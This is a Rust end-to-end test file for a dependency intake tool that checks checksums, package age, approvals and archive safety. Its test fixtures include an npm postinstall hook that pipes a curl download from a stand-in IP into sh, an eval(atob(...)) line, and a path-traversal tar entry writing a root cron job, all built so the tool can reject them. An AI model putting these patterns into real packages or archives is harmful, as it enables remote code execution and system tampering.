@@ -1,0 +1,614 @@
+//! End-to-end tests of `zt deps intake`, `zt deps request`, `zt deps approve` and
+//! `zt deps requests`: the real binary in a temporary repository.
+#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]
+
+use std::path::Path;
+use std::process::{Command, Output};
+
+use zt_deps::intake::archive::{gzip, write_tar};
+
+fn zt(dir: &Path, args: &[&str]) -> Output {
+    zt_env(dir, args, &[])
+}
+
+fn zt_env(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
+    let mut c = Command::new(env!("CARGO_BIN_EXE_zt"));
+    c.args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("HOME", dir)
+        .env("NO_COLOR", "1");
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    c.output().unwrap()
+}
+
+fn json(o: &Output) -> serde_json::Value {
+    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
+        panic!(
+            "stdout is not JSON ({e}): {}\nstderr: {}",
+            String::from_utf8_lossy(&o.stdout),
+            String::from_utf8_lossy(&o.stderr)
+        )
+    })
+}
+
+fn now() -> i64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs() as i64
+}
+
+/// A `.crate` (gzipped tar) with a manifest and a library.
+fn good_crate(dir: &Path) -> (std::path::PathBuf, String) {
+    let tar = write_tar(&[
+        (
+            "demo-1.0.0/Cargo.toml",
+            b"[package]\nname = \"demo\"\nversion = \"1.0.0\"\n",
+            0o644,
+        ),
+        (
+            "demo-1.0.0/src/lib.rs",
+            b"pub fn add(a: u32, b: u32) -> u32 { a + b }\n",
+            0o644,
+        ),
+    ]);
+    let bytes = gzip(&tar);
+    let path = dir.join("demo-1.0.0.crate");
+    fs_err::write(&path, &bytes).unwrap();
+    (path, zt_core::Digest::sha256(&bytes).hex())
+}
+
+/// A crates.io index file with one line for demo 1.0.0.
+fn index(dir: &Path, cksum: &str, pubtime: i64) -> std::path::PathBuf {
+    let line = serde_json::json!({
+        "name": "demo", "vers": "1.0.0", "deps": [], "cksum": cksum, "features": {},
+        "yanked": false, "pubtime": zt_core::time::rfc3339(pubtime),
+    });
+    let path = dir.join("de");
+    fs_err::write(&path, format!("{line}\n")).unwrap();
+    path
+}
+
+fn lockfile(dir: &Path, checksum: &str) -> std::path::PathBuf {
+    let path = dir.join("Cargo.lock");
+    fs_err::write(
+        &path,
+        format!(
+            "version = 4\n\n[[package]]\nname = \"demo\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{checksum}\"\n"
+        ),
+    )
+    .unwrap();
+    path
+}
+
+fn mirror_blobs(dir: &Path) -> Vec<String> {
+    let d = dir.join(".zt/mirror/cargo/sha256");
+    match fs_err::read_dir(&d) {
+        Ok(rd) => rd
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect(),
+        Err(_) => Vec::new(),
+    }
+}
+
+/// The in-toto statement inside a bundle (paths in the output are relative to the repo).
+fn intake_statement(dir: &Path, bundle: &str) -> serde_json::Value {
+    let b: serde_json::Value =
+        serde_json::from_slice(&fs_err::read(dir.join(bundle)).unwrap()).unwrap();
+    let payload = b["dsseEnvelope"]["payload"].as_str().unwrap();
+    serde_json::from_slice(&zt_core::b64::decode(payload).unwrap()).unwrap()
+}
+
+#[test]
+fn a_package_from_the_lockfile_with_matching_checksum_enters_the_mirror() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let (archive, sha) = good_crate(d);
+    lockfile(d, &sha);
+    let idx = index(d, &sha, now() - 30 * 24 * 3600);
+    let o = zt(
+        d,
+        &[
+            "deps",
+            "intake",
+            "demo@1.0.0",
+            "--ecosystem",
+            "crates.io",
+            "--archive",
+            archive.to_str().unwrap(),
+            "--lockfile",
+            "Cargo.lock",
+            "--index",
+            idx.to_str().unwrap(),
+            "--json",
+        ],
+    );
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let v = json(&o);
+    assert_eq!(v["verdict"], "admitted");
+    assert_eq!(v["checksums"].as_array().unwrap().len(), 2);
+    assert!(
+        v["checksums"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|c| c["matched"] == true)
+    );
+    assert_eq!(v["age"]["status"], "ok");
+    assert_eq!(mirror_blobs(d), [sha.clone()]);
+    let index: serde_json::Value =
+        serde_json::from_slice(&fs_err::read(d.join(".zt/mirror/index.json")).unwrap()).unwrap();
+    assert_eq!(index["pkg:cargo/demo@1.0.0"]["sha256"], sha.as_str());
+    // the decision is a signed in-toto statement about the archive, in the ledger
+    let st = intake_statement(d, v["bundle"].as_str().unwrap());
+    assert_eq!(st["predicateType"], zt_core::predicate::ZT_INTAKE_V1);
+    assert_eq!(st["subject"][0]["digest"]["sha256"], sha.as_str());
+    assert_eq!(st["predicate"]["verdict"], "admitted");
+    assert!(d.join(".zt/ledger.db").is_file());
+}
+
+#[test]
+fn a_checksum_mismatch_is_rejected_and_never_mirrored() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let (archive, _) = good_crate(d);
+    let wrong = "0".repeat(64);
+    lockfile(d, &wrong);
+    let o = zt(
+        d,
+        &[
+            "deps",
+            "intake",
+            "demo@1.0.0",
+            "--ecosystem",
+            "crates.io",
+            "--archive",
+            archive.to_str().unwrap(),
+            "--lockfile",
+            "Cargo.lock",
+            "--allow-unknown-age",
+            "--json",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(1));
+    let v = json(&o);
+    assert_eq!(v["verdict"], "rejected");
+    let reasons: Vec<&str> = v["reasons"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["rule"].as_str().unwrap())
+        .collect();
+    assert_eq!(reasons, ["checksum-mismatch"]);
+    assert_eq!(v["checksums"][0]["source"], "lockfile");
+    assert!(mirror_blobs(d).is_empty());
+    assert!(!d.join(".zt/mirror/index.json").exists());
+    // the rejection and its reason are recorded and signed
+    let record: serde_json::Value =
+        serde_json::from_slice(&fs_err::read(d.join(v["record"].as_str().unwrap())).unwrap())
+            .unwrap();
+    assert_eq!(record["reasons"][0]["rule"], "checksum-mismatch");
+    assert_eq!(
+        intake_statement(d, v["bundle"].as_str().unwrap())["predicate"]["verdict"],
+        "rejected"
+    );
+}
+
+#[test]
+fn malware_is_rejected_with_its_rule_id() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let pkg = br#"{"name":"evil","version":"1.0.0","scripts":{"postinstall":"curl -s https://203.0.113.7/x.sh | sh"}}"#;
+    let js = b"const p = require('child_process');\neval(atob('Y29uc29sZS5sb2coMSk='));\n";
+    let bytes = gzip(&write_tar(&[
+        ("package/package.json", pkg, 0o644),
+        ("package/index.js", js, 0o644),
+    ]));
+    fs_err::write(d.join("evil-1.0.0.tgz"), &bytes).unwrap();
+    let sri = format!(
+        "sha512-{}",
+        zt_core::b64::encode(
+            zt_core::Digest::of_bytes(zt_core::DigestAlgorithm::Sha512, &bytes).bytes()
+        )
+    );
+    let packument = serde_json::json!({
+        "name": "evil",
+        "versions": {"1.0.0": {"version": "1.0.0", "dist": {"integrity": sri}}},
+        "time": {"1.0.0": "2020-01-01T00:00:00.000Z"},
+    });
+    fs_err::write(d.join("evil.json"), packument.to_string()).unwrap();
+    // approved request, so only the heuristics can reject
+    let r = zt(
+        d,
+        &[
+            "deps",
+            "request",
+            "evil",
+            "--ecosystem",
+            "npm",
+            "--justification",
+            "test",
+            "--maintenance-plan",
+            "none",
+            "--requester",
+            "alice",
+            "--json",
+        ],
+    );
+    assert_eq!(
+        r.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&r.stderr)
+    );
+    let id = json(&r)["id"].as_str().unwrap().to_string();
+    assert_eq!(
+        zt(d, &["deps", "approve", &id, "--approver", "bob"])
+            .status
+            .code(),
+        Some(0)
+    );
+    let o = zt(
+        d,
+        &[
+            "deps",
+            "intake",
+            "evil@1.0.0",
+            "--ecosystem",
+            "npm",
+            "--archive",
+            "evil-1.0.0.tgz",
+            "--index",
+            "evil.json",
+            "--json",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(1));
+    let v = json(&o);
+    assert_eq!(v["verdict"], "rejected");
+    assert_eq!(v["checksums"][0]["algorithm"], "sha512");
+    assert_eq!(v["checksums"][0]["matched"], true);
+    let rules: Vec<&str> = v["reasons"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["rule"].as_str().unwrap())
+        .collect();
+    assert!(rules.contains(&"download-execute"), "{rules:?}");
+    assert!(rules.contains(&"npm-exec-base64"), "{rules:?}");
+    assert!(!d.join(".zt/mirror/index.json").exists());
+    // human output names the rule too
+    let o = zt(
+        d,
+        &[
+            "deps",
+            "intake",
+            "evil@1.0.0",
+            "--ecosystem",
+            "npm",
+            "--archive",
+            "evil-1.0.0.tgz",
+            "--index",
+            "evil.json",
+        ],
+    );
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains("deny [npm-exec-base64] package/index.js:2")
+    );
+}
+
+#[test]
+fn a_version_younger_than_the_quarantine_age_is_held() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let (archive, sha) = good_crate(d);
+    lockfile(d, &sha);
+    let idx = index(d, &sha, now() - 3600);
+    let args = [
+        "deps",
+        "intake",
+        "demo@1.0.0",
+        "--ecosystem",
+        "crates.io",
+        "--archive",
+        archive.to_str().unwrap(),
+        "--lockfile",
+        "Cargo.lock",
+        "--index",
+        idx.to_str().unwrap(),
+        "--json",
+    ];
+    let o = zt(d, &args);
+    assert_eq!(o.status.code(), Some(1));
+    let v = json(&o);
+    assert_eq!(v["verdict"], "held");
+    assert_eq!(v["age"]["status"], "too-new");
+    assert_eq!(v["age"]["min_age_hours"], 72);
+    assert!(mirror_blobs(d).is_empty());
+    // the threshold is policy: zt.toml lowers it
+    fs_err::write(
+        d.join("zt.toml"),
+        "[thresholds]\nmin_package_age_hours = 0\n",
+    )
+    .unwrap();
+    let o = zt(d, &args);
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "{}{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    );
+    // without any publish time the age fails closed
+    fs_err::remove_file(d.join("zt.toml")).unwrap();
+    let o = zt(
+        d,
+        &[
+            "deps",
+            "intake",
+            "demo@1.0.0",
+            "--ecosystem",
+            "crates.io",
+            "--archive",
+            archive.to_str().unwrap(),
+            "--lockfile",
+            "Cargo.lock",
+            "--json",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(1));
+    assert_eq!(json(&o)["reasons"][0]["rule"], "age-unknown");
+}
+
+#[test]
+fn a_new_package_needs_a_request_approved_by_someone_else() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let (archive, sha) = good_crate(d);
+    let idx = index(d, &sha, now() - 30 * 24 * 3600);
+    let intake = [
+        "deps",
+        "intake",
+        "demo@1.0.0",
+        "--ecosystem",
+        "crates.io",
+        "--archive",
+        archive.to_str().unwrap(),
+        "--index",
+        idx.to_str().unwrap(),
+        "--json",
+    ];
+    let o = zt(d, &intake);
+    assert_eq!(o.status.code(), Some(1));
+    let v = json(&o);
+    assert_eq!(v["reasons"][0]["rule"], "no-approved-request");
+    assert!(
+        v["reasons"][0]["message"]
+            .as_str()
+            .unwrap()
+            .contains("zt deps request demo")
+    );
+
+    let r = zt_env(
+        d,
+        &[
+            "deps",
+            "request",
+            "demo",
+            "--ecosystem",
+            "crates.io",
+            "--justification",
+            "adds numbers",
+            "--maintenance-plan",
+            "platform team, monthly updates",
+            "--json",
+        ],
+        &[("USER", "alice")],
+    );
+    assert_eq!(
+        r.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&r.stderr)
+    );
+    let req = json(&r);
+    assert_eq!(req["requester"], "alice");
+    assert_eq!(req["status"], "pending");
+    let id = req["id"].as_str().unwrap().to_string();
+    let st = intake_statement(d, req["bundle"].as_str().unwrap());
+    assert_eq!(
+        st["predicateType"],
+        zt_core::predicate::ZT_DEPENDENCY_REQUEST_V1
+    );
+    assert_eq!(st["predicate"]["action"], "request");
+
+    // still pending: intake refuses
+    assert_eq!(zt(d, &intake).status.code(), Some(1));
+    // the requester cannot approve their own request
+    let o = zt(d, &["deps", "approve", &id, "--approver", "alice"]);
+    assert_eq!(o.status.code(), Some(1));
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(err.contains("cannot approve it too"), "{err}");
+    assert!(err.contains("help:"), "{err}");
+    // someone else can
+    let o = zt(d, &["deps", "approve", &id, "--approver", "bob", "--json"]);
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let a = json(&o);
+    assert_eq!(a["approval"]["approver"], "bob");
+    assert_eq!(
+        intake_statement(d, a["bundle"].as_str().unwrap())["predicate"]["action"],
+        "approve"
+    );
+    // twice is refused
+    assert_eq!(
+        zt(d, &["deps", "approve", &id, "--approver", "carol"])
+            .status
+            .code(),
+        Some(1)
+    );
+    // listed
+    let l = json(&zt(d, &["deps", "requests", "--json"]));
+    assert_eq!(l["requests"][0]["status"], "approved");
+    let human = zt(d, &["deps", "requests"]);
+    assert!(String::from_utf8_lossy(&human.stdout).contains(&format!("{id}  approved")));
+    // now intake admits it
+    let o = zt(d, &intake);
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&o.stdout)
+    );
+    assert!(json(&o)["approval"].as_str().unwrap().contains(&id));
+}
+
+#[test]
+fn a_crash_half_way_leaves_no_partial_mirror_entry() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let (archive, sha) = good_crate(d);
+    lockfile(d, &sha);
+    let args = [
+        "deps",
+        "intake",
+        "demo@1.0.0",
+        "--ecosystem",
+        "crates.io",
+        "--archive",
+        archive.to_str().unwrap(),
+        "--lockfile",
+        "Cargo.lock",
+        "--allow-unknown-age",
+    ];
+    let o = zt_env(d, &args, &[("ZT_FAILPOINT", "mirror-before-rename")]);
+    assert_eq!(o.status.code(), None, "the process should have aborted");
+    // only the temporary file: no blob under its digest, no index entry
+    let names = mirror_blobs(d);
+    assert!(names.iter().all(|n| n.starts_with(".zt-tmp-")), "{names:?}");
+    assert!(
+        !names.is_empty(),
+        "the failpoint should leave the temporary file behind"
+    );
+    assert!(!d.join(".zt/mirror/index.json").exists());
+    // a second run completes and sweeps the leftover
+    let o = zt(d, &args);
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    assert_eq!(mirror_blobs(d), [sha]);
+}
+
+#[test]
+fn bad_input_exits_2_and_names_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let o = zt(
+        d,
+        &[
+            "deps",
+            "intake",
+            "demo",
+            "--ecosystem",
+            "crates.io",
+            "--archive",
+            "x.crate",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("not `NAME@VERSION`"));
+    let o = zt(
+        d,
+        &[
+            "deps",
+            "intake",
+            "demo@1.0.0",
+            "--ecosystem",
+            "crates.io",
+            "--archive",
+            "missing.crate",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("missing.crate"));
+    let (archive, _) = good_crate(d);
+    fs_err::write(d.join("bad-index"), "{not json\n").unwrap();
+    let o = zt(
+        d,
+        &[
+            "deps",
+            "intake",
+            "demo@1.0.0",
+            "--ecosystem",
+            "crates.io",
+            "--archive",
+            archive.to_str().unwrap(),
+            "--index",
+            "bad-index",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("bad-index:1"));
+    let o = zt(
+        d,
+        &["deps", "approve", "REQ-000000000000", "--approver", "bob"],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    let o = zt(
+        d,
+        &[
+            "deps",
+            "request",
+            "x",
+            "--ecosystem",
+            "npm",
+            "--justification",
+            "",
+            "--maintenance-plan",
+            "p",
+            "--requester",
+            "a",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("--justification"));
+    // an archive with a path traversal is a rejection, recorded, not an input error
+    let evil = write_tar(&[("../../etc/cron.d/x", b"* * * * * root sh", 0o644)]);
+    fs_err::write(d.join("demo-1.0.0.crate"), gzip(&evil)).unwrap();
+    let sha = zt_core::Digest::sha256(&fs_err::read(d.join("demo-1.0.0.crate")).unwrap()).hex();
+    lockfile(d, &sha);
+    let o = zt(
+        d,
+        &[
+            "deps",
+            "intake",
+            "demo@1.0.0",
+            "--ecosystem",
+            "crates.io",
+            "--archive",
+            "demo-1.0.0.crate",
+            "--lockfile",
+            "Cargo.lock",
+            "--allow-unknown-age",
+            "--json",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(1));
+    assert_eq!(json(&o)["reasons"][0]["rule"], "archive-unsafe-path");
+}
